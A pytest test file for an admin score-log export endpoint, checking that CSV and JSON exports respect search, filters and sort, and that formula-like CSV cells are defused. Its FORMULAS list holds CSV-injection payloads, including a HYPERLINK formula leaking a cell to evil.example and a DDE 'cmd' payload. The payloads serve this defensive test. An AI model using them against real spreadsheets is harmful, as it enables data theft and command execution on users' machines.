"""Export gives what the list shows (its search, filters and sort), and CSV cells that a
spreadsheet would run as a formula are defused."""

from __future__ import annotations

import csv
import html
import io
import re
import uuid

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import text
from sqlalchemy.engine import Engine

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tindented",
    "\rreturn",
]


@pytest.fixture
def players(db_engine: Engine) -> str:
    """Five score_log rows whose user_id starts with a fresh prefix; scores 10..50."""
    prefix = f"exp-{uuid.uuid4().hex[:8]}"
    with db_engine.begin() as conn:
        for i, score in enumerate((30.0, 10.0, 50.0, 20.0, 40.0)):
            conn.execute(
                text(
                    "INSERT INTO score_log (request_id, user_id, input_value, score)"
                    " VALUES (:r, :u, 1.0, :s)"
                ),
                {"r": uuid.uuid4(), "u": f"{prefix}-{i}", "s": score},
            )
    return prefix


def _csv(client: TestClient, params: dict[str, str]) -> list[dict[str, str]]:
    response = client.get("/admin/score-log/export/csv", params=params)
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.text)))


def test_export_keeps_the_search_and_the_sort(viewer: TestClient, players: str) -> None:
    rows = _csv(viewer, {"search": players, "sortBy": "score", "sort": "asc"})
    assert [r["score"] for r in rows] == ["10.0", "20.0", "30.0", "40.0", "50.0"]
    assert all(r["user_id"].startswith(players) for r in rows)
    descending = _csv(viewer, {"search": players, "sortBy": "score", "sort": "desc"})
    assert [r["score"] for r in descending] == ["50.0", "40.0", "30.0", "20.0", "10.0"]


def test_export_keeps_the_filters(viewer: TestClient, players: str) -> None:
    params = {"search": players, "score": "25", "score_op": "greater_than", "sortBy": "score"}
    assert [r["score"] for r in _csv(viewer, params)] == ["30.0", "40.0", "50.0"]
    response = viewer.get("/admin/score-log/export/json", params=params)
    assert sorted(r["score"] for r in response.json()) == [30.0, 40.0, 50.0]


def test_export_ignores_the_page_it_was_started_from(viewer: TestClient, players: str) -> None:
    rows = _csv(viewer, {"search": players, "page": "2", "pageSize": "2"})
    assert len(rows) == 5


def test_the_export_links_carry_the_list_query(viewer: TestClient, players: str) -> None:
    page = viewer.get(
        "/admin/score-log/list",
        params={"search": players, "sortBy": "score", "sort": "desc", "page": "1"},
    )
    links = [
        html.unescape(h) for h in re.findall(r'href="([^"]*/score-log/export/[^"]*)"', page.text)
    ]
    assert len(links) == 2  # CSV and JSON
    for link in links:
        assert f"search={players}" in link
        assert "sortBy=score" in link and "sort=desc" in link
        assert "page=" not in link


def test_csv_cells_that_look_like_formulas_are_defused(
    viewer: TestClient, db_engine: Engine
) -> None:
    prefix = f"fx-{uuid.uuid4().hex[:8]}"
    with db_engine.begin() as conn:
        for i, formula in enumerate(FORMULAS):
            conn.execute(
                text(
                    "INSERT INTO score_log (request_id, user_id, input_value, score)"
                    " VALUES (:r, :u, -1.5, :s)"
                ),
                {"r": uuid.uuid4(), "u": formula + f" {prefix}", "s": -i},
            )
    rows = _csv(viewer, {"search": prefix, "sortBy": "id", "sort": "asc"})
    assert [r["user_id"] for r in rows] == [f"'{f} {prefix}" for f in FORMULAS]
    assert {r["input_value"] for r in rows} == {"-1.5"}  # numbers stay numbers
